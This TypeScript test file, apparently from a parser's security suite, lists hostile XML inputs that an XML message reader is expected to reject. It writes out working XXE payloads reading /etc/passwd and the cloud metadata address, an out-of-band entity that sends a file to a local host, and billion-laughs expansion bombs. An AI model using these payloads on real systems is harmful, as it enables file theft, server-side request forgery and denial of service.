// SPDX-License-Identifier: EUPL-1.2
import { enveloped, jw323 } from '../../support/ijw/messages.js';
import { each, filling, type HostileFile } from './hostile-file.js';

const MESSAGE = jw323();
const BODY = MESSAGE.slice(MESSAGE.indexOf('\n') + 1);

const withType = (type: string, body = BODY): string => `<?xml version="1.0" encoding="UTF-8"?>\n${type}\n${body}`;
const withEntities = (entities: string, use = '&x;'): string => withType(`<!DOCTYPE Bericht [${entities}]>`, BODY.replace('REF-1', use));
const laughs = (levels: number, width: number): string =>
  `<!ENTITY a0 "ha">${Array.from({ length: levels }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(width)}">`).join('')}`;

/** A document type, in every way it was ever used to harm. */
export const ENTITY_FILES: readonly HostileFile[] = each('unreadable', {
  'a plain document type': () => withType('<!DOCTYPE Bericht>'),
  'a document type in small letters': () => withType('<!doctype Bericht>'),
  'a document type without a name': () => withType('<!DOCTYPE>'),
  'a document type twice': () => withType('<!DOCTYPE a><!DOCTYPE b>'),
  'a document type behind a comment': () => withType('<!-- a --><?b?><!DOCTYPE Bericht>'),
  'a document type inside': () => MESSAGE.replace('<jw323:Clienten>', '<jw323:Clienten><!DOCTYPE a>'),
  'a document type behind the root': () => `${MESSAGE}<!DOCTYPE a>`,
  'a document type of another file': () => withType('<!DOCTYPE Bericht SYSTEM "file:///etc/passwd">'),
  'a document type of another machine': () => withType('<!DOCTYPE Bericht SYSTEM "http://127.0.0.1:1/evil.dtd">'),
  'a document type of the public': () => withType('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:1/x.dtd">'),
  'a document type that never ends': () => `<!DOCTYPE Bericht [${' '.repeat(1_000_000)}`,
  'a document type of 25 MB': () => withType(`<!DOCTYPE Bericht [${filling('<!ENTITY a "b">', 10_000)}]>`),
  'a document type with ten thousand brackets': () => withType(`<!DOCTYPE Bericht [${'<![INCLUDE['.repeat(10_000)}`),
  'a document type in an envelope': () => enveloped(withType('<!DOCTYPE Bericht>')),
  'a document type around an envelope': () => withType('<!DOCTYPE e>', enveloped(MESSAGE).replace(/^<\?xml.*\n/, '')),
  'a document type in UTF-16': () => Buffer.from(`\ufeff${withType('<!DOCTYPE Bericht>')}`, 'utf16le'),
  'a document type in UTF-7': () => '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-',
  'an entity of its own': () => withEntities('<!ENTITY x "y">'),
  'an entity of a file': () => withEntities('<!ENTITY x SYSTEM "file:///etc/passwd">'),
  'an entity of a device': () => withEntities('<!ENTITY x SYSTEM "file:///dev/zero">'),
  'an entity of another machine': () => withEntities('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">'),
  'an entity by FTP': () => withEntities('<!ENTITY x SYSTEM "ftp://127.0.0.1:1/%25">'),
  'an entity in PHP': () => withEntities('<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">'),
  'an entity of itself': () => withEntities('<!ENTITY x "&x;">'),
  'two entities of each other': () => withEntities('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
  'an entity in a parameter': () => withEntities('<!ENTITY % p SYSTEM "http://127.0.0.1:1/x"> %p;'),
  'an entity that sends a file away': () =>
    withEntities('<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY x SYSTEM \'http://127.0.0.1:1/?%f;\'>">%e;'),
  'an entity without a parser': () => withEntities('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "a.gif" NDATA n>'),
  'an entity in a default': () => withType('<!DOCTYPE Bericht [<!ENTITY x "y"><!ATTLIST Bericht a CDATA "&x;">]>'),
  'a billion laughs': () => withEntities(laughs(9, 10), '&a9;'),
  'two to the hundredth laughs': () => withEntities(laughs(100, 2), '&a100;'),
  'a long laugh, often': () => withEntities(`<!ENTITY x "${'a'.repeat(100_000)}">`, '&x;'.repeat(100_000)),
  'a laugh in an attribute': () => withType(`<!DOCTYPE Bericht [${laughs(9, 10)}]>`, BODY.replace('<jw323:Client>', '<jw323:Client a="&a9;">')),
  'a laugh in an envelope': () => enveloped(withEntities(laughs(9, 10), '&a9;')),
  'a hundred thousand defaults': () =>
    withType(`<!DOCTYPE Bericht [<!ATTLIST Bericht ${Array.from({ length: 100_000 }, (_, i) => `a${i} CDATA "x"`).join(' ')}>]>`),
});
